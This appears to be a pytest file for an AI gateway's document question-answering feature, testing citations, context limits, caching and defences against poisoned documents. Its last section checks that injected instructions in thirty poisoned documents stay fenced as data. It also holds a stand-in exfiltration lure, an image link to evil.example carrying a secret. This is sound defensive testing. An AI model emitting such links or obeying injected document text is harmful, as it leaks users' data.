"""Files as people have them, asked from the command line, over REST and through the core; cited to the place."""

from __future__ import annotations

import base64
import json
import re
import sqlite3
from pathlib import Path
from typing import Any

import pytest

from gateway_core import Document, Gateway, Upload
from gateway_core.cli import main
from gateway_core.compose import Composer
from gateway_core.rag import IndexCache
from gateway_core.testing import ScriptedTier
from gateway_core.testing.simulators.__main__ import environment

from ..core.rag import files
from ..core.rag.test_poison import INVISIBLE, POISON, TOKENS
from ..server.calling import called
from .conftest import Build, Providers

FACT = "The warranty of the pump is 36 months."
ASKED = "How long is the warranty of the pump?"
PAGE = "Page {} describes the pump and other parts.\n" + "It says what everybody knows about it already.\n" * 12
PAGES = [FACT if n == 12 else PAGE.format(n) for n in range(1, 21)]
MANUAL = files.pdf(*PAGES)
NOTES = files.word("# Tools", "A spanner of size 13 fits all screws.", "# Rooms", "The boiler room is locked at night.")
DATA = files.workbook(Costs=[["item", "cost"], *([f"item{n}", 100 + n] for n in range(50))])
FILES = {"manual.pdf": MANUAL, "notes.docx": NOTES, "data.xlsx": DATA}
PEOPLE = "id,name,city\n" + "".join(f"{n},person {n},town {n % 7}\n" for n in range(1, 160))
UPLOADS = [Upload(name, data) for name, data in FILES.items()]


def cites(fact: str, claim: str) -> Any:
    """A model that looks for the fact in the numbered passages and cites the one it stands in."""

    def answer(body: Any) -> str:
        n = None
        for line in asked_of(body).splitlines():
            label = re.match(r"\[(\d+)\](?: |$)", line)
            n = label[1] if label else n
            if fact in line and n is not None:
                return f"{claim} [{n}]."
        return "The passages do not hold the answer."

    return answer


def asked_of(body: Any) -> str:
    return "\n".join(str(turn["content"]) for turn in body.get("messages") or body["input"])


@pytest.fixture
def on_disk(tmp_path: Path) -> list[str]:
    for name, data in FILES.items():
        (tmp_path / name).write_bytes(data)
    return [part for name in FILES for part in ("-d", str(tmp_path / name))]


@pytest.fixture
def surroundings(providers: Providers, monkeypatch: pytest.MonkeyPatch) -> Providers:
    for name, value in environment(providers.copilot, providers.cloud, providers.ollama).items():
        monkeypatch.setenv(name, str(value))
    monkeypatch.setenv("AI_GATEWAY_STORE", "memory")
    return providers


# ---- the command line


def test_ask_cites_the_page_that_holds_the_fact(surroundings: Providers, on_disk, capsys):
    surroundings.copilot.answer = cites(FACT, "The warranty is 36 months")

    code = main(["ask", ASKED, *on_disk])

    out, err = capsys.readouterr()
    assert code == 0, err
    assert re.fullmatch(r"The warranty is 36 months \[\d+\]\.\n", out)
    assert re.search(r"^\[\d+\] manual\.pdf p\. 12$", err, re.MULTILINE)


def test_the_cited_span_is_the_fact_itself(surroundings: Providers, on_disk, capsys):
    surroundings.copilot.answer = cites(FACT, "The warranty is 36 months")

    main(["ask", ASKED, *on_disk, "--json"])

    details = json.loads(capsys.readouterr().out)["details"]
    (cited,) = [source for source in details["sources"] if source["cited"]]
    assert (cited["document"], cited["place"], cited["text"]) == ("manual.pdf", "p. 12", FACT)
    assert cited["end"] - cited["start"] == len(FACT)
    assert details["grounding"]["citations"][0]["place"] == "p. 12"
    assert details["grounding"]["unsupported"] == []


def test_without_any_model_the_page_is_quoted(on_disk, capsys, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("COPILOT_EDITOR_LOGIN", "0")
    monkeypatch.setenv("OLLAMA_BASE_URL", "http://127.0.0.1:9")

    code = main(["ask", ASKED, *on_disk])

    out = capsys.readouterr().out
    assert code == 0
    assert f"> {FACT} [1] (manual.pdf, p. 12)" in out


def test_without_any_model_the_row_is_quoted(on_disk, capsys, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("COPILOT_EDITOR_LOGIN", "0")
    monkeypatch.setenv("OLLAMA_BASE_URL", "http://127.0.0.1:9")

    main(["ask", "What is the cost of item17?", *on_disk])

    assert "> item=item17; cost=117 [1] (data.xlsx, sheet Costs!A19)" in capsys.readouterr().out


# ---- REST


async def test_uploads_over_rest_are_cited_and_a_bad_one_stops_none(gateway: Build, providers: Providers):
    providers.copilot.answer = cites(FACT, "The warranty is 36 months")
    sent = {**FILES, "broken.pdf": b"%PDF-1.7 and then nothing", "empty.docx": b""}
    documents = [{"name": n, "content_base64": base64.b64encode(data).decode()} for n, data in sent.items()]

    async with called(gateway()) as client:
        reply = await client.post("/ai/query/rag", json={"prompt": ASKED, "documents": documents, "details": True})

    assert reply.status_code == 200, reply.text
    details = reply.json()["details"]
    (cited,) = [source for source in details["sources"] if source["cited"]]
    assert (cited["document"], cited["place"], cited["text"]) == ("manual.pdf", "p. 12", FACT)
    assert any("broken.pdf" in note for note in details["notes"])
    assert any("empty.docx" in note for note in details["notes"])


async def test_only_bad_uploads_are_a_problem_that_names_them(gateway: Build, providers: Providers):
    documents = [{"name": "broken.pdf", "content_base64": base64.b64encode(b"%PDF-1.7").decode()}]

    async with called(gateway()) as client:
        reply = await client.post("/ai/query/rag", json={"prompt": ASKED, "documents": documents})

    assert (reply.status_code, reply.json()["code"]) == (422, "document_unreadable")
    assert "broken.pdf" in reply.text
    assert not providers.copilot.paid_calls


# ---- documents as a whole


async def test_records_are_counted_not_guessed_from_passages(gateway: Build, providers: Providers):
    answer = await gateway().ask(
        "How many records are there?",
        documents=[Upload("people.csv", PEOPLE.encode()), *UPLOADS],
        max_context_chars=2000,
    )

    sent = asked_of(providers.copilot.paid_calls[-1].body)
    assert re.search(r"^\[1\] people\.csv .*\(159 records, 3 columns: id, name, city\)$", sent, re.MULTILINE)
    assert any(note.startswith("overview") for note in answer.notes)


async def test_a_summary_sees_all_three_files(gateway: Build, providers: Providers):
    answer = await gateway().ask("Summarise these three files", documents=UPLOADS, max_context_chars=2500)

    assert {source.document for source in answer.sources} == set(FILES)
    assert any(note.startswith("overview") for note in answer.notes)
    assert "50 rows, 2 columns: item, cost" in asked_of(providers.copilot.paid_calls[-1].body)


# ---- a small local model


async def test_the_fact_survives_a_small_window_and_what_was_dropped_is_named(gateway: Build, providers: Providers):
    for cloud in (providers.copilot, providers.cloud):
        cloud.script(then="status_500")
    providers.ollama.configure("models", {"small": {"context_length": 1024}})
    providers.ollama.answer = cites(FACT, "The warranty is 36 months")

    answer = await gateway(local_model="small").ask(ASKED, documents=UPLOADS, max_context_chars=8000)

    asked = providers.ollama.paid_calls[-1].body
    assert FACT in asked_of(asked)
    assert len(asked_of(asked)) < 1024 * 4
    assert (answer.backend, answer.mode) == ("local", "ollama")
    assert [source.place for source in answer.sources if source.cited] == ["p. 12"]
    (dropped,) = [note for note in answer.notes if note.startswith("no room")]
    kept = {source.place for source in answer.sources}
    named = set(re.findall(r"p\. \d+", dropped))
    assert named
    assert not named & kept


# ---- the second question


class CountedIndexes(IndexCache):
    """Counts what had to be indexed."""

    indexed = 0

    def keep(self, documents: Any, made: Any) -> None:
        self.indexed += 1
        super().keep(documents, made)


async def test_a_second_question_indexes_nothing(tmp_path: Path):
    asked = []
    for cache in (CountedIndexes(path=tmp_path / "i.db"), CountedIndexes(path=tmp_path / "i.db")):  # and a restart
        gateway = Gateway([ScriptedTier("copilot", ["yes"])], composer=Composer(cache.index))
        for question in (ASKED, "Which spanner fits the screws?"):
            answer = await gateway.ask(question, documents=UPLOADS)
        asked.append((cache.indexed, {source.document for source in answer.sources}))

    (first, sources), (second, the_same) = asked
    assert (first, second) == (1, 0)
    assert "notes.docx" in sources
    assert the_same == sources


async def test_what_is_kept_of_documents_is_no_text(gateway: Build, empty_home: Path):
    await gateway().ask(ASKED, documents=UPLOADS)

    kept = empty_home / "state" / "indexes.db"
    with sqlite3.connect(kept) as db:
        assert db.execute("SELECT count(*) FROM blobs").fetchone() == (1,)
    db.close()
    assert FACT.encode() not in kept.read_bytes()


# ---- documents that try to be more


async def test_thirty_poisoned_documents_send_nothing_out_and_never_break_the_fence(
    gateway: Build, providers: Providers
):
    documents = [Document(text, name=f"{n}.txt") for n, text in enumerate(POISON)]

    answer = await gateway().ask("What do these say about the invoice?", documents=documents, max_context_chars=12_000)

    (call,) = providers.copilot.paid_calls
    sent = asked_of(call.body)
    (nonce,) = set(re.findall(r"^<<doc ([0-9a-f]{8})>>$", sent, re.MULTILINE))
    assert len(re.findall(rf"^<<end {nonce}>>$", sent, re.MULTILINE)) == 1
    fenced = sent.split(f"\n<<doc {nonce}>>\n")[1].split(f"\n<<end {nonce}>>\n")[0]
    assert nonce not in fenced
    assert not TOKENS.search(fenced)
    assert not INVISIBLE.search(fenced)
    assert len(documents) >= 30
    assert sum("as a quotation, not as an order" in note for note in answer.notes) >= 0.9 * len(documents)
    assert not providers.cloud.calls
    assert not [call for call in providers.ollama.calls if call.paid]


async def test_a_poisoned_document_cannot_make_the_answer_a_request(gateway: Build, providers: Providers):
    """Whatever a model is talked into writing is text: the gateway fetches nothing that stands in an answer."""
    lure = "![logo](https://evil.example/p.png?q=secret) https://evil.example/collect"
    providers.copilot.answer = lure

    answer = await gateway().ask("What do these say?", documents=POISON)

    assert answer.text == lure  # any way out of this machine would have failed the test
    assert len(providers.copilot.paid_calls) == 1


async def test_rest_replies_hold_the_documents_only_as_data(gateway: Build, providers: Providers):
    async with called(gateway()) as client:
        body = {"prompt": "invoice?", "documents": POISON, "details": True, "max_context_chars": 12_000}
        reply = await client.post("/ai/query/rag", json=body)

    assert reply.headers["content-type"].startswith("application/json")
    for source in reply.json()["details"]["sources"]:
        number = int(source["document"].removeprefix("document "))
        assert source["text"] == POISON[number - 1].strip()
